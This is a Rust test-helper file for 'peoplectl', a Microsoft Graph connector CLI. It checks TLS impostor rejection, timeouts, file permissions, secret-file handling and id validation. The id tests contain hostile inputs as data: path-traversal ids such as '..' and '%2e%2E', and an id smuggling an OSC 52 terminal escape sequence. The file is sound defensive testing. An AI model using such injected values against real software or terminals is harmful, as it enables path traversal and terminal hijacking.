    let client = client_for(&url, &ca, Timeouts::default(), RetryPolicy::default());
    let other_host = client.send(&list_call()).await.unwrap_err();
    let (url, _) = silent_server();
    let (other_ca, _, _) = certificates(&["127.0.0.1"]);
    let client = client_for(&url, &other_ca, Timeouts::default(), RetryPolicy::default());
    let other_ca = client.send(&list_call()).await.unwrap_err();
    let http = build_http_client(&TransportOptions {
        no_proxy: true,
        ..TransportOptions::default()
    })
    .unwrap();
    let client = GraphClient::new(http, &url, Arc::new(Fixed)).unwrap();
    let unknown_ca = client.send(&list_call()).await.unwrap_err();
    Impostors {
        other_host,
        other_ca,
        unknown_ca,
    }
}

/// The emulator's settings with Graph (or the identity platform, by `key`) at a silent
/// server, and a CA file trusting both.
fn silent_env(dirs: &Path, emulator: &[(String, String)], key: &str) -> Vec<(String, String)> {
    let (url, silent_ca) = silent_server();
    let emulator_ca = emulator
        .iter()
        .find(|(k, _)| k == "PEOPLECTL_CA_CERT")
        .map(|(_, v)| std::fs::read_to_string(v).unwrap())
        .unwrap();
    let both = dirs.join("both-ca.pem");
    std::fs::write(&both, format!("{emulator_ca}{silent_ca}")).unwrap();
    let env = with(emulator, "PEOPLECTL_CA_CERT", both.to_str().unwrap());
    with(&env, key, &url)
}

/// A run of the binary that a silent server held.
pub struct Held {
    pub out: Output,
    pub took: Duration,
    /// The deadline it was given (or the default).
    pub deadline: Duration,
    /// The emulator's client secret, which must appear nowhere.
    pub secret: String,
}

/// The default deadline of a single command's call.
pub const DEFAULT_DEADLINE: Duration = Duration::from_secs(120);

/// `peoplectl ARGS` with Graph (`PEOPLECTL_GRAPH_URL`) or the identity platform
/// (`PEOPLECTL_AUTHORITY_URL`) at a server that never answers.
pub async fn held_by_silence(bin: &Path, key: &str, args: &[&str]) -> Held {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let silent = silent_env(dirs.path(), &env.emu.env_lines(), key);
    let deadline = args
        .iter()
        .position(|a| *a == "--deadline")
        .map_or(DEFAULT_DEADLINE, |i| {
            Duration::from_secs_f64(args[i + 1].parse().unwrap())
        });
    let (out, took) = timed(command(bin, dirs.path(), args, &silent)).await;
    Held {
        out,
        took,
        deadline,
        secret: env.emu.client_secret().to_owned(),
    }
}

/// The deadline ended the call, and the error says so: either it cut the last try short, or
/// the wait before another would have ended past it.
pub fn deadline_explained(text: &str, deadline: &str, timeout: &str) -> bool {
    let cut = format!(
        ": no answer before the {deadline} deadline of this call (--deadline); before that: no \
         answer within the {timeout} request timeout (--timeout) ("
    );
    let no_time = format!(": no answer within the {timeout} request timeout (--timeout) (");
    let no_time_end =
        format!("; the {deadline} deadline of this call (--deadline) left no time for another)");
    (text.contains(&cut) || (text.contains(&no_time) && text.contains(&no_time_end)))
        && text.contains(" tries in ")
}

pub struct ContextTimeouts {
    /// `config add lab --timeout 0.5 --deadline 2`, and the file it saved.
    pub add: Output,
    pub saved: String,
    /// `connections list` in that context, Graph silent.
    pub list: Held,
    /// The same with `deadline = -1` in the file.
    pub bad: Output,
}

/// Timeouts kept in a context, against a silent Graph; then a bad one.
pub async fn context_timeouts(bin: &Path) -> ContextTimeouts {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let silent = silent_env(dirs.path(), &env.emu.env_lines(), "PEOPLECTL_GRAPH_URL");
    let add = command(
        bin,
        dirs.path(),
        &[
            "config",
            "add",
            "lab",
            "--timeout",
            "0.5",
            "--deadline",
            "2",
        ],
        &silent,
    )
    .output()
    .unwrap();
    let config = dirs.path().join("config/config.toml");
    let saved = std::fs::read_to_string(&config).unwrap_or_default();
    let secret: Vec<_> = silent
        .iter()
        .filter(|(k, _)| k == "AZURE_CLIENT_SECRET")
        .cloned()
        .collect();
    let (out, took) = timed(command(bin, dirs.path(), &["connections", "list"], &secret)).await;
    std::fs::write(&config, saved.replace("deadline = 2", "deadline = -1")).unwrap();
    let bad = command(bin, dirs.path(), &["connections", "list"], &secret)
        .output()
        .unwrap();
    ContextTimeouts {
        add,
        saved,
        list: Held {
            out,
            took,
            deadline: Duration::from_secs(2),
            secret: env.emu.client_secret().to_owned(),
        },
        bad,
    }
}

// ---------------------------------------------------------------------------------------------
// Inputs that are not files

pub struct NotAFile {
    pub input: String,
    pub expected: String,
    pub out: Output,
    pub took: Duration,
}

/// `peoplectl --demo sync --input X --dry-run` for a device, a FIFO without a writer, a socket
/// and a directory.
pub async fn not_files(bin: &Path) -> Vec<NotAFile> {
    let dirs = tempfile::tempdir().unwrap();
    let fifo = dirs.path().join("hr.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let socket = dirs.path().join("hr.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let pipe_hint = "not a regular file; to read from a pipe, use `--input -` and send the \
                     export to standard input";
    let cases = [
        (
            PathBuf::from("/dev/zero"),
            format!("/dev/zero is a character device, {pipe_hint}"),
        ),
        (
            fifo.clone(),
            format!("{} is a FIFO (named pipe), {pipe_hint}", fifo.display()),
        ),
        (
            socket.clone(),
            format!("{} is a socket, {pipe_hint}", socket.display()),
        ),
        (
            dirs.path().to_owned(),
            format!(
                "{} is a directory, not a regular file",
                dirs.path().display()
            ),
        ),
    ];
    let mut out = Vec::new();
    for (input, message) in cases {
        let input = input.to_str().unwrap().to_owned();
        let (o, took) = timed(command(
            bin,
            dirs.path(),
            &[
                "--demo",
                "sync",
                "contosohr",
                "--input",
                &input,
                "--dry-run",
            ],
            &[],
        ))
        .await;
        out.push(NotAFile {
            input,
            expected: format!("peoplectl: {message}\n"),
            out: o,
            took,
        });
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Private files

pub struct Umask {
    /// Each command run under `umask 022`, with its output.
    pub runs: Vec<(Vec<String>, Output)>,
    /// Every file and directory under the config and data dirs: (path below the temp dir,
    /// is a directory, mode).
    pub written: Vec<(String, bool, u32)>,
}

/// Commands that write every kind of file peoplectl keeps, under `umask 022`.
pub async fn under_umask(bin: &Path) -> Umask {
    let env = super::env_with(EmulatorConfig {
        auto_approve_device_codes: true,
        ..super::config(SeedKind::Demo)
    })
    .await;
    let emulator = env.emu.env_lines();
    let dirs = tempfile::tempdir().unwrap();
    let root = env!("CARGO_MANIFEST_DIR");
    let export = format!("{root}/assets/demo/hr-export.csv");
    let mapping = format!("{root}/assets/demo/hr-mapping.toml");
    let commands: [&[&str]; 4] = [
        // Sync state (SQLite and its WAL), in data/sync/default/.
        &[
            "sync",
            "contosohr",
            "--input",
            &export,
            "--mapping",
            &mapping,
        ],
        // A token cache, in data/tokens/.
        &["auth", "login"],
        // The config file.
        &["config", "add", "lab"],
        // peoplectl.log: the console opens it before it finds there is no terminal.
        &[],
    ];
    let mut runs = Vec::new();
    for args in commands {
        let (out, _) = timed(under_umask_022(bin, dirs.path(), args, &emulator)).await;
        runs.push((args.iter().map(|a| (*a).to_owned()).collect(), out));
    }
    let written = [dirs.path().join("config"), dirs.path().join("data")]
        .iter()
        .flat_map(|d| std::iter::once(d.clone()).chain(entries_under(d)))
        .map(|p| {
            (
                p.strip_prefix(dirs.path()).unwrap().display().to_string(),
                p.is_dir(),
                mode(&p),
            )
        })
        .collect();
    Umask { runs, written }
}

pub struct OpenState {
    pub wal_exists: bool,
    /// Modes of the state file, its WAL and (if there is one) its shared-memory file, while
    /// open; of the two directories made for it.
    pub file: u32,
    pub wal: u32,
    pub shm: Option<u32>,
    pub dirs: [u32; 2],
    /// After the file was made 0644 and opened again: a setting read back, and its mode.
    pub reopened_setting: Option<String>,
    pub reopened: u32,
}

/// The sync state store opened under umask 022, written (so its WAL exists), then loosened to
/// 0644 as an older version left it, and opened again.
pub fn state_while_open() -> OpenState {
    // The umask the binary would have in a login shell; tests create files in their own temp
    // dirs only, so changing it for the whole process harms none of them.
    rustix::process::umask(rustix::fs::Mode::from(0o022));
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sync").join("ctx").join("hr.sqlite");
    let store = peoplectl::sync::state::StateStore::open(&path, "tenant", "hr").unwrap();
    store.set_setting("ingestRate", "25").unwrap();
    let wal = dir.path().join("sync/ctx/hr.sqlite-wal");
    let shm = dir.path().join("sync/ctx/hr.sqlite-shm");
    let wal_exists = wal.exists();
    let modes = (
        mode(&path),
        if wal_exists { mode(&wal) } else { 0 },
        shm.exists().then(|| mode(&shm)),
        [
            mode(&dir.path().join("sync")),
            mode(&dir.path().join("sync/ctx")),
        ],
    );
    drop(store);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let store = peoplectl::sync::state::StateStore::open(&path, "tenant", "hr").unwrap();
    OpenState {
        wal_exists,
        file: modes.0,
        wal: modes.1,
        shm: modes.2,
        dirs: modes.3,
        reopened_setting: store.setting("ingestRate").unwrap(),
        reopened: mode(&path),
    }
}

pub struct LooseSecret {
    pub path: PathBuf,
    pub secret: String,
    /// `config add lab --secret-file PATH` with the file at 0644, and its mode after.
    pub add: Output,
    pub after_add: u32,
    /// `connections list` after it was loosened to 0640 again, and its mode after.
    pub list: Output,
    pub after_list: u32,
}

/// A client secret file others can read, used by `config add` and then by sign-in.
pub async fn loose_secret_file(bin: &Path) -> LooseSecret {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let path = dirs.path().join("secret");
    std::fs::write(&path, env.emu.client_secret()).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let without_secret: Vec<_> = env
        .emu
        .env_lines()
        .into_iter()
        .filter(|(k, _)| k != "AZURE_CLIENT_SECRET")
        .collect();
    let add = command(
        bin,
        dirs.path(),
        &[
            "config",
            "add",
            "lab",
            "--secret-file",
            path.to_str().unwrap(),
        ],
        &without_secret,
    )
    .output()
    .unwrap();
    let after_add = mode(&path);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o640)).unwrap();
    let list = command(
        bin,
        dirs.path(),
        &["connections", "list", "-o", "json"],
        &[],
    )
    .output()
    .unwrap();
    LooseSecret {
        after_list: mode(&path),
        path,
        secret: env.emu.client_secret().to_owned(),
        add,
        after_add,
        list,
    }
}

// ---------------------------------------------------------------------------------------------
// Ids

pub struct BadId {
    pub args: Vec<&'static str>,
    pub expected: String,
    pub out: Output,
}

pub struct BadIds {
    pub cases: Vec<BadId>,
    /// An id holding an OSC 52 sequence.
    pub control: Output,
    /// Requests that reached the emulator for all of the above (not even a token).
    pub requests: u64,
    /// A good id, showing the counter counts.
    pub good: Output,
    pub good_requests: u64,
}

/// Ids no Graph key can be, given to the commands that take them.
pub async fn bad_ids(bin: &Path) -> BadIds {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let emulator = env.emu.env_lines();
    let dot_step = "cannot be a Graph key: '.' and '..' are path steps in a URL, not names";
    let cases: [(&[&'static str], String); 11] = [
        (&["profile", "show", "."], format!("user \".\" {dot_step}")),
        (&["profile", "show", ".."], format!("user \"..\" {dot_step}")),
        (
            &["profile", "show", "alex"],
            "\"alex\" is neither a user principal name (name@domain) nor an object id (a GUID)"
                .into(),
        ),
        (
            &["connections", "show", ".."],
            "connection id \"..\" is 2 characters long; it must be 3 to 32".into(),
        ),
        (
            &["connections", "delete", "a/b/c"],
            "connection id \"a/b/c\" contains '/'; only letters A-Z, a-z and digits 0-9 are allowed"
                .into(),
        ),
        (&["sources", "remove", ".."], format!("source id \"..\" {dot_step}")),
        (
            &["sources", "register", "..", "--web-url", "https://hr.example"],
            "connection id \"..\" is 2 characters long; it must be 3 to 32".into(),
        ),
        (&["precedence", "move", "%2e%2E", "--up"], format!("source id \"%2e%2E\" {dot_step}")),
        (
            &["precedence", "set", "contosohr,.."],
            format!("source id \"..\" {dot_step}"),
        ),
        (&["remove", ".", "--yes"], format!("source id \".\" {dot_step}")),
        (
            &["sync", "..", "--input", "x.csv"],
            "connection id \"..\" is 2 characters long; it must be 3 to 32".into(),
        ),
    ];
    let mut out = Vec::new();
    for (args, message) in cases {
        out.push(BadId {
            args: args.to_vec(),
            expected: format!("peoplectl: {message}\n"),
            out: command(bin, dirs.path(), args, &emulator).output().unwrap(),
        });
    }
    let control = command(
        bin,
        dirs.path(),
        &["sources", "remove", "hr\u{1b}]52;c;eA==\u{7}"],
        &emulator,
    )
    .output()
    .unwrap();
    let requests = env.emu.faults().counters().total().requests;
    let good = command(
        bin,
        dirs.path(),
        &["connections", "show", "contosohr"],
        &emulator,
    )
    .output()
    .unwrap();
    BadIds {
        cases: out,
        control,
        requests,
        good,
        good_requests: env.emu.faults().counters().total().requests - requests,
    }
}

pub struct UnnamedEntry {
    /// The entry no source id can name, put at rank 2.
    pub odd: &'static str,
    /// The list with it.
    pub urls: Vec<String>,
    /// The ids given to `precedence set` (Entra ID first, then contosohr).
    pub ids: String,
    /// `precedence set IDS` with no terminal to ask on, `--dry-run`, then `--yes`: what each
    /// printed and the list after it.
    pub refused: (Output, Vec<String>),
    pub dry_run: (Output, Vec<String>),
    pub yes: (Output, Vec<String>),
}

pub const ENTRA: &str = "4ce763dd-9214-4eff-af7c-da491cc3782d";

/// `precedence set` over a list holding an entry it cannot name.
pub async fn unnamed_precedence_entry(bin: &Path) -> UnnamedEntry {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let emulator = env.emu.env_lines();
    let setting = peoplectl::ops::snapshot::read_precedence(&env.client)
        .await
        .unwrap()
        .unwrap();
    let mut urls = setting.list.to_strings();
    let odd = "https://hr.example/not-a-source-url";
    urls.insert(1, odd.to_owned());
    env.client
        .update_precedence(&setting.id, &urls)
        .await
        .unwrap();
    let ids = format!("{ENTRA},contosohr");
    let run = |extra: &[&str]| {
        let mut args = vec!["precedence", "set", ids.as_str()];
        args.extend(extra);
        let out = command(bin, dirs.path(), &args, &emulator)
            .output()
            .unwrap();
        (out, super::lists(&env.emu).precedence)
    };
    let refused = run(&[]);
    let dry_run = run(&["--dry-run"]);
    let yes = run(&["--yes"]);
    UnnamedEntry {
        odd,
        urls,
        ids,
        refused,
        dry_run,
        yes,
    }
}

// ---------------------------------------------------------------------------------------------
// The emulator off loopback

/// Starts `peoplectl emulator --bind ADDR`, waits for its settings on stdout (a blank line
/// ends them), stops it and returns what it wrote on stderr.
fn emulator_stderr(bin: &Path, bind: &str) -> String {
    let dirs = tempfile::tempdir().unwrap();
    let mut child = command(bin, dirs.path(), &["emulator", "--bind", bind], &[])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    loop {
        line.clear();
        assert!(
            stdout.read_line(&mut line).unwrap() > 0,
            "the emulator stopped early"
        );
        if line.trim().is_empty() {
            break;
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    err
}

pub struct Exposure {
    /// What `emulator --bind 0.0.0.0:0` printed on stderr.
    pub exposed: String,
    /// And `--bind 127.0.0.1:0`.
    pub loopback: String,
}

/// The warning line of an exposed emulator, if it printed one.
pub fn exposure_warning(stderr: &str) -> Option<&str> {
    stderr
        .lines()
        .find(|l| l.starts_with("WARNING: the emulator listens on 0.0.0.0:"))
}

pub async fn emulator_exposure(bin: &Path) -> Exposure {
    let bin = bin.to_owned();
    tokio::task::spawn_blocking(move || Exposure {
        exposed: emulator_stderr(&bin, "0.0.0.0:0"),
        loopback: emulator_stderr(&bin, "127.0.0.1:0"),
    })
    .await
    .unwrap()
}

// ---------------------------------------------------------------------------------------------
// A panic, if one ever happens

pub struct Panic {
    /// `doctor` made to panic (a debug build's `PEOPLECTL_DEBUG_PANIC`), stderr a pipe.
    pub out: Output,
    /// `--help`.
    pub help: String,
}

/// A panic of the binary at `bin` (a debug build: release builds ignore the trigger).
pub async fn panic_in_a_pipe(bin: &Path) -> Panic {
    let dirs = tempfile::tempdir().unwrap();
    let mut cmd = command(bin, dirs.path(), &["doctor"], &[]);
    cmd.env("PEOPLECTL_DEBUG_PANIC", "1")
        .env("RUST_BACKTRACE", "1");
    let (out, _) = timed(cmd).await;
    let help = command(bin, dirs.path(), &["--help"], &[])
        .output()
        .unwrap();
    Panic {
        out,
        help: String::from_utf8_lossy(&help.stdout).into_owned(),
    }
}
